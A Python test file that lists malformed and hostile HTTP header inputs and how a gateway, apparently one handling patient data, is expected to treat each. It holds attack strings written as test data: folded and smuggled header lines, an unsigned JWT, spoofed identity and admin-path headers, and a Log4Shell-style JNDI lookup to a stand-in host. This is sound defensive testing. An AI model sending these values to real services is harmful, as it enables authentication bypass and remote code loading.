"""What a head says: fields that say two things, that say it to others, or that nobody may say."""

from tests.live.hostile.wire import (
    BEARER,
    BODY,
    ENCODED,
    HOST,
    LARGE,
    MISSING,
    REFUSED,
    SSN,
    UNREADABLE,
    C,
    passes,
    post,
    refused,
    shut,
)


def hosted(*values):
    return post(host=b"".join(b"Host: " + value + b"\r\n" for value in values))


HOSTS = [
    refused("no host", hosted()),
    refused("two hosts that agree", hosted(b"gateway", b"gateway")),
    refused("two hosts that do not", hosted(b"gateway", b"model.example")),
    refused("two hosts in one field", hosted(b"gateway, model.example")),
    refused("two hosts in two cases", hosted(b"gateway").replace(b"Host", b"hOST: x\r\nHost")),
    refused("an empty host", hosted(b"")),
    refused("a host with a path", hosted(b"gateway/v1")),
    refused("a host with a user", hosted(b"me@gateway")),
    refused("a host with a scheme", hosted(b"http://gateway")),
    refused("a host with a blank", hosted(b"gateway model.example")),
    refused("a host with a port that is none", hosted(b"gateway:80x")),
    refused("a host with two ports", hosted(b"gateway:80:80")),
    refused("a host in other letters", hosted("g\u0430teway".encode())),
    refused("a host with a number sign", hosted(b"gateway#" + SSN)),
    shut("a host that is folded", hosted(b"gateway\r\n model.example")),
    passes("a host of somebody else", hosted(b"model.example")),
    passes("a host with a value in it", hosted(b"mrn-77310042.example:8080")),
    passes("a host that is an address", hosted(b"[::1]:8080")),
]


def borne(*lines):
    return post(bearer=b"".join(b"Authorization: " + line + b"\r\n" for line in lines))


B = b"Bearer @BEARER@"
BEARERS = [
    refused("no bearer", borne(), MISSING),
    refused("two bearers", borne(B, B)),
    refused("a bearer and a password", borne(B, b"Basic bWU6cGFzcw==")),
    refused("a password", borne(b"Basic bWU6cGFzcw=="), REFUSED),
    refused("two bearers in one", borne(B + b", " + B), REFUSED),
    refused("a bearer with more behind it", borne(B + b" " + SSN), REFUSED),
    refused("a bearer without its scheme", borne(b"@BEARER@"), REFUSED),
    refused("a bearer of nothing", borne(b"Bearer"), MISSING),
    refused("a bearer of blanks", borne(b"Bearer    "), MISSING),
    refused("a bearer of other letters", borne(b"Bearer " + C), REFUSED),
    refused("a bearer in quotes", borne(b'Bearer "@BEARER@"'), REFUSED),
    refused("a bearer behind a tab", borne(b"Bearer\t@BEARER@"), REFUSED),
    refused("half a bearer", borne(b"Bearer eyJhbGciOiJub25lIn0."), REFUSED),
    refused("a bearer that nobody signed", borne(b"Bearer eyJhbGciOiJub25lIn0.e30."), REFUSED),
    refused("a bearer of 20,000 letters", borne(b"Bearer " + b"a" * 20_000), REFUSED),
    refused("a bearer in a cookie", post(b"Cookie: token=@BEARER@\r\n", bearer=b""), MISSING),
    refused("a bearer under another name", post(b"X-Authorization: " + B + b"\r\n", bearer=b""), MISSING),
    refused("a bearer with an underscore", post(b"Proxy_Authorization: " + B + b"\r\n", bearer=b""), MISSING),
    refused("a bearer for a proxy", post(b"Proxy-Authorization: " + B + b"\r\n", bearer=b""), MISSING),
    refused("a name from a proxy", post(b"X-Forwarded-User: dr.okafor\r\n", bearer=b""), MISSING),
    refused("a name that says itself", post(b"X-Remote-User: dr.okafor\r\nRemote-User: x\r\n", bearer=b""), MISSING),
    refused("a certificate that says itself", post(b"X-SSL-Client-Cert: x\r\n", bearer=b""), MISSING),
    refused("a certificate of a mesh", post(b"X-Forwarded-Client-Cert: Hash=x\r\n", bearer=b""), MISSING),
    shut("a bearer that is folded", borne(b"Bearer\r\n @BEARER@")),
    shut("a bearer with a NUL", borne(B + b"\0")),
    passes("a scheme in lower case", borne(b"bearer @BEARER@")),
]

SHAPES = [
    shut("a folded line", post(b"X: a\r\n " + SSN + b"\r\n")),
    shut("a line folded by a tab", post(b"X: a\r\n\tb\r\n")),
    shut("a line that is folded first", post(host=b" X: y\r\n" + HOST)),
    shut("a bare carriage return", post(b"X: a\rb\r\n")),
    shut("a bare carriage return at the end", post(b"X: a\r\r\n")),
    shut("a NUL", post(b"X: a\0b\r\n")),
    shut("an escape", post(b"X: \x1b[2J" + SSN + b"\r\n")),
    shut("a bell", post(b"X: \x07\r\n")),
    shut("DEL", post(b"X: \x7f\r\n")),
    shut("a backspace", post(b"X: a\x08\r\n")),
    shut("a form feed", post(b"X: a\x0c\r\n")),
    shut("a line without a colon", post(SSN + b"\r\n")),
    shut("a field without a name", post(b": " + SSN + b"\r\n")),
    shut("a name with a blank behind it", post(b"X : y\r\n")),
    shut("a name with a blank in it", post(b"X Y: y\r\n")),
    shut("a name with a NUL", post(b"X\0: y\r\n")),
    shut("a name of other letters", post("\u0425: y\r\n".encode())),
    shut("a name in quotes", post(b'"X": y\r\n')),
    shut("a name with a slash", post(b"X/Y: y\r\n")),
    shut("a name of a pseudo field", post(b":path: /v1/models\r\n")),
    shut("a name with brackets", post(b"X[]: y\r\n")),
    passes("a value of bytes above 127", post(b"X: \xff\xfe " + C + b"\r\n")),
    passes("an empty value", post(b"X:\r\n")),
    refused("101 fields", post(b"X: y\r\n" * 101), LARGE),
    refused("fields of 60 KB", post(b"X: " + b"a" * 60_000 + b"\r\n"), LARGE),
    shut("fields of 80 KB", post(b"X: " + b"a" * 80_000 + b"\r\n"), LARGE),
    refused("a name of 50 KB", post(b"a" * 50_000 + b": y\r\n"), LARGE),
    shut("a thousand bearers", post(BEARER * 1000), LARGE),
]

IGNORED = [
    ("a wish for an upgrade", b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"),
    (
        "a wish for HTTP/2",
        b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
    ),
    ("a wish for TLS", b"Connection: Upgrade\r\nUpgrade: TLS/1.0\r\n"),
    ("a wish to be told to go on", b"Expect: 100-continue\r\n"),
    ("another expectation", b"Expect: " + SSN + b"\r\n"),
    ("a range", b"Range: bytes=0-10\r\n"),
    ("many ranges", b"Range: bytes=" + b"0-1," * 500 + b"2-3\r\n"),
    ("a condition by tag", b'If-None-Match: "' + SSN + b'"\r\nIf-Match: *\r\n'),
    ("a condition by time", b"If-Modified-Since: Thu, 26 Nov 2026 00:00:00 GMT\r\n"),
    ("a condition of a range", b'If-Range: "x"\r\n'),
    ("a bearer that is hop by hop", b"Connection: authorization\r\n"),
    ("a body that is hop by hop", b"Connection: content-length, content-type, host\r\n"),
    ("a connection that is to stay", b"Connection: keep-alive\r\nKeep-Alive: timeout=9999\r\n"),
    ("a connection of a proxy", b"Proxy-Connection: keep-alive\r\n"),
    ("addresses of others", b"X-Forwarded-For: 127.0.0.1\r\nX-Real-IP: 127.0.0.1\r\nForwarded: for=127.0.0.1\r\n"),
    ("a host of others", b"X-Forwarded-Host: model.example\r\nX-Host: x\r\nX-Forwarded-Server: x\r\n"),
    ("a path of others", b"X-Original-URL: /admin\r\nX-Rewrite-URL: /admin\r\nX-Forwarded-Prefix: /admin\r\n"),
    ("another method", b"X-HTTP-Method-Override: DELETE\r\nX-HTTP-Method: DELETE\r\nX-Method-Override: PUT\r\n"),
    ("another name", b"X-Forwarded-User: priya.raman\r\nX-Remote-User: root\r\nX-Auth-Request-User: root\r\n"),
    ("another name with underscores", b"X_Forwarded_User: root\r\nREMOTE_USER: root\r\n"),
    ("keys of servers", b"X-Api-Key: " + SSN + b"\r\nApi-Key: x\r\nX-Goog-Api-Key: x\r\n"),
    ("a cookie", b"Cookie: patient=" + SSN + b"\r\n"),
    ("two cookies", b"Cookie: a=b\r\nCookie: c=d\r\n"),
    ("where it comes from", b"Referer: http://x/?mrn=77310042\r\nOrigin: http://x\r\n"),
    ("a trace", b"Traceparent: 00-" + b"a" * 32 + b"-" + b"b" * 16 + b"-01\r\nBaggage: patient=" + SSN + b"\r\n"),
    ("a name of the client that speaks", b"User-Agent: " + C + b"\r\n"),
    ("a client that is a program", b"User-Agent: ${jndi:ldap://x/" + SSN + b"}\r\n"),
    ("kinds that are taken", b"Accept: " + SSN + b"\r\nAccept-Encoding: gzip, br\r\nAccept-Language: " + SSN + b"\r\n"),
    ("an id of its own", b"X-Request-Id: " + SSN + b"\r\nPhi-Exchange: ex-1\r\n"),
    ("answers of ours", b"Phi-Decision: permit\r\nPhi-Rule: x\r\nPhi-Reason: x\r\nX-Should-Retry: true\r\n"),
    ("a credential of the model's", b"OpenAI-Organization: " + SSN + b"\r\nOpenAI-Project: x\r\n"),
    ("a cache that is told what to do", b"Cache-Control: only-if-cached\r\nPragma: no-cache\r\nMax-Forwards: 0\r\n"),
    ("a destination", b"Destination: http://x/\r\nX-Upstream: http://x/\r\nX-Target-Url: http://x/\r\n"),
    ("a digest of what it is not", b"Digest: sha-256=x\r\nContent-MD5: x\r\nContent-Digest: x\r\n"),
    ("a language and a place of the body", b"Content-Language: x\r\nContent-Location: /" + SSN + b"\r\n"),
    ("a part of a body", b"Content-Range: bytes 0-1/2\r\n"),
    ("an alternative", b'Alt-Svc: h3=":443"\r\nAlt-Used: model.example\r\n'),
]


def typed(kind, body=BODY, fields=b""):
    return post(fields, kind=b"".join(b"Content-Type: " + line + b"\r\n" for line in kind), body=body)


TYPES = [
    refused("no type", typed([]), UNREADABLE),
    refused("two types that agree", typed([b"application/json"] * 2)),
    refused("two types that do not", typed([b"application/json", b"text/plain"])),
    refused("two types in one", typed([b"application/json, text/plain"]), UNREADABLE),
    refused("text", typed([b"text/plain"]), UNREADABLE),
    refused("JSON of another kind", typed([b"application/vnd.api+json"]), UNREADABLE),
    refused("JSON of text", typed([b"text/json"]), UNREADABLE),
    refused("any type", typed([b"*/*"]), UNREADABLE),
    refused("a type in quotes", typed([b'"application/json"']), UNREADABLE),
    refused("a type that speaks", typed([SSN]), UNREADABLE),
    refused("a type with a blank", typed([b"application /json"]), UNREADABLE),
    refused("a form", typed([b"application/x-www-form-urlencoded"]), UNREADABLE),
    refused("a form of parts", typed([b"multipart/form-data; boundary=x"]), UNREADABLE),
    refused("UTF-16", typed([b"application/json; charset=utf-16"], BODY.decode().encode("utf-16")), ENCODED),
    refused("UTF-7", typed([b"application/json; charset=utf-7"]), ENCODED),
    refused("UTF-8 and more", typed([b"application/json; charset=utf-8; charset=utf-7"]), ENCODED),
    refused("another letter set", typed([b"application/json; charset=ibm500"]), ENCODED),
    refused("a parameter", typed([b"application/json; boundary=x"]), ENCODED),
    refused("an empty parameter and more", typed([b"application/json;;charset=utf-7"]), ENCODED),
    passes("UTF-8 in quotes", typed([b'application/json; charset="UTF-8"'])),
    passes("a type in capitals", typed([b"APPLICATION/JSON"])),
]

ROWS = [
    *(HOSTS + BEARERS + SHAPES + TYPES),
    *(passes(sentence, post(lines)) for sentence, lines in IGNORED),
]
